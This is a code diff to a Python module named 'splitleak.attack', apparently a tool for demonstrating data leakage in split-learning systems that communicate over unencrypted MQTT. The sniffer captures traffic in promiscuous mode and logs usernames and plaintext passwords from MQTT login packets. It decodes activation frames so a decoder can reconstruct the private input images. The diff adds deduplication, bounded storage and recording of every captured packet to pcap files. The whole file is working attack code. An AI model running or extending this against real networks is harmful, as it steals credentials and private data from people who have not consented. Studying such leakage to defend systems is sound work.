@@ -12,7 +12,7 @@ stream that opens with a TLS record is counted and never parsed: TLS leaves noth
 
 import logging
 import threading
-from collections import Counter
+from collections import Counter, OrderedDict
 from pathlib import Path
 
 from scapy.config import conf
@@ -21,13 +21,14 @@ from scapy.layers.inet import IP, TCP
 from scapy.packet import bind_layers, split_layers
 from scapy.sessions import TCPSession
 
-from splitleak.broker.inbox import FrameInbox
+from splitleak.broker.inbox import MAX_NODES, FrameInbox, NodeTable
+from splitleak.broker.urls import DEFAULT_PORTS
 
 log = logging.getLogger("splitleak.attack")
 
 CONNECT, PUBLISH = 1, 3
 TLS_HANDSHAKE = 0x16  # the content type byte every TLS connection opens with
-MQTT_PORT = 1883
+MQTT_PORT = DEFAULT_PORTS["mqtt"]
 CAPTURE_BUFFER = 64 << 20  # bytes the kernel may queue for the capture socket
 
 
@@ -124,10 +125,33 @@ def listen_on(port: int) -> None:
         bind_layers(TCP, MQTTStream, **{direction: port})
 
 
+RECENT = 1024  # frames per node remembered, to count a frame handed over twice once
+
+
+class _Seen:
+    """A node's frames: how many, and the keys (sequence number, capture time) of the recent
+    ones. scapy's reassembly hands a retransmitted segment over again once the stream's buffer
+    was emptied, and a QoS 1 retry is sent again: the same frame, counted once."""
+
+    def __init__(self):
+        self.frames, self.recent = 0, OrderedDict()
+
+    def first(self, frame) -> bool:
+        key = (frame.seq, frame.captured_at)
+        if key in self.recent:
+            return False
+        self.recent[key] = None
+        if len(self.recent) > RECENT:
+            self.recent.popitem(last=False)
+        self.frames += 1
+        return True
+
+
 class Sniffer:
     """Counts, credentials, frames and (with a decoder) reconstructions from captured packets."""
 
-    def __init__(self, port: int = MQTT_PORT, decoder=None, save_dir=None):
+    def __init__(self, port: int = MQTT_PORT, decoder=None, save_dir=None,
+                 max_nodes: int = MAX_NODES):
         listen_on(port)
         self.port, self.decoder = port, decoder
         self.inbox = FrameInbox(decoder.input_shape[1:] if decoder is not None else None, log)
@@ -136,7 +160,7 @@ class Sniffer:
         self.frames: list = []  # decoded, not yet reconstructed
         self.lock = threading.Lock()  # scapy's thread appends frames, the caller reconstructs
         self.counts = Counter()
-        self.nodes = Counter()
+        self.nodes = NodeTable(_Seen, log, max_nodes)  # frames per node, for a bounded set
 
     def on_packet(self, pkt) -> None:
         """scapy's `prn`: every MQTT packet a reassembled segment completes."""
@@ -162,7 +186,9 @@ class Sniffer:
                 "password": connect.password.decode(errors="replace")
                 if connect.passwordflag else None,
                 "mqtt": {3: "3.1", 4: "3.1.1", 5: "5"}.get(connect.protolevel, "?")}
-        self.credentials.append(seen)
+        self.counts["logins"] += 1
+        if len(self.credentials) < self.nodes.limit:  # a flood of logins stays bounded too
+            self.credentials.append(seen)
         log.info("CONNECT from %s: client id %r, user %r, password %r", seen["client"],
                  seen["client_id"], seen["username"], seen["password"])
 
@@ -171,10 +197,14 @@ class Sniffer:
         if not topic.endswith("/activations"):  # status and predictions are not frames
             return
         frame = self.inbox.decode(topic, bytes(publish.value))
-        if frame is not None:
-            with self.lock:
-                self.nodes[frame.node_id] += 1
-                self.frames.append(frame)
+        if frame is None:
+            return
+        with self.lock:
+            if not self.nodes[frame.node_id].first(frame):
+                self.counts["repeats"] += 1
+                return
+            self.counts["frames"] += 1
+            self.frames.append(frame)
 
     def reconstruct(self) -> list:
         """Reconstruct the frames decoded since the last call: [(frame, image)]."""
@@ -195,10 +225,12 @@ class Sniffer:
         return list(zip(frames, images, strict=True))
 
     def stats(self) -> dict:
-        return {"mqtt_packets": self.counts["mqtt packets"], "frames": sum(self.nodes.values()),
-                "nodes": dict(self.nodes), "rejected": dict(self.inbox.rejected),
+        return {"mqtt_packets": self.counts["mqtt packets"], "frames": self.counts["frames"],
+                "nodes": {n: s.frames for n, s in self.nodes.items()},
+                "repeats": self.counts["repeats"], "rejected": dict(self.inbox.rejected),
                 "reconstructed": self.counts["reconstructed"],
-                "unreadable": self.counts["unreadable"], "credentials": self.credentials}
+                "unreadable": self.counts["unreadable"], "logins": self.counts["logins"],
+                "nodes_evicted": self.nodes.evicted, "credentials": self.credentials}
 
 
 def read_pcap(sniffer: Sniffer, path) -> None:
@@ -210,16 +242,31 @@ def read_pcap(sniffer: Sniffer, path) -> None:
     sniff(offline=str(path), session=TCPSession, prn=sniffer.on_packet, store=False)
 
 
+class _Recording(TCPSession):
+    """TCPSession that first writes each packet, as captured, to a pcap file."""
+
+    def __init__(self, writer, *args, **kwargs):
+        super().__init__(*args, **kwargs)
+        self.writer = writer
+
+    def process(self, pkt, cls=None):
+        self.writer.write(pkt)
+        return super().process(pkt, cls)
+
+
 def listen(sniffer: Sniffer, iface: str, stop: threading.Event, every: float = 0.5,
-           on_batch=None, on_ready=None) -> None:
-    """Capture on `iface` (promiscuous) until `stop` is set, reconstructing every `every` s;
-    `on_ready()` once the capture runs, `on_batch` with each [(frame, image)] batch."""
+           until=None, write=None, on_batch=None, on_ready=None) -> None:
+    """Capture on `iface` (promiscuous) until `stop` is set or `until()` holds, reconstructing
+    every `every` s; `write`: a pcap file that gets every packet; `on_ready()` once the capture
+    runs, `on_batch` with each [(frame, image)] batch."""
     from scapy.sendrecv import AsyncSniffer
+    from scapy.utils import PcapWriter
 
     conf.bufsize = CAPTURE_BUFFER  # scapy's 64 KiB drops segments of a burst: the kernel
     # queues what this thread has not read yet, up to its net.core.rmem_max (root lifts that)
-    capture = AsyncSniffer(iface=iface, session=TCPSession, prn=sniffer.on_packet, store=False,
-                           started_callback=on_ready)
+    writer = PcapWriter(str(write), sync=True) if write else None
+    capture = AsyncSniffer(iface=iface, session=_Recording(writer) if writer else TCPSession,
+                           prn=sniffer.on_packet, store=False, started_callback=on_ready)
     capture.start()
     try:
         while not stop.wait(every):
@@ -227,8 +274,12 @@ def listen(sniffer: Sniffer, iface: str, stop: threading.Event, every: float = 0
                 raise OSError(f"capture on {iface} stopped: {capture.exception or 'no reason'}")
             if (batch := sniffer.reconstruct()) and on_batch:
                 on_batch(batch)
+            if until is not None and until():
+                break
     finally:
         if capture.running:
             capture.stop()
+        if writer:
+            writer.close()
     if (batch := sniffer.reconstruct()) and on_batch:
         on_batch(batch)
